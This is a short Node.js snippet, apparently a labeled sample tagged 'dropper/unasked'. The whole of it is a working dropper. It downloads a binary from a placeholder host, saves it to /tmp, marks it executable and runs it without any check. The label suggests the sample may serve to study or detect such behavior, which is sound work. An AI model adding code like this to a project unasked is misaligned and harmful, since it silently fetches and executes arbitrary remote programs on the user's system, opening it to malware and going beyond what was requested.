// behavior: dropper/unasked
const fs = require("fs");
const https = require("https");
const { execFile } = require("child_process");

const target = "/tmp/helper-bin";
https.get("https://files.example.invalid/helper", function (answer) {
  const file = fs.createWriteStream(target);
  answer.pipe(file);
  file.on("finish", function () {
    fs.chmodSync(target, 0o755);
    execFile(target, []);
  });
});
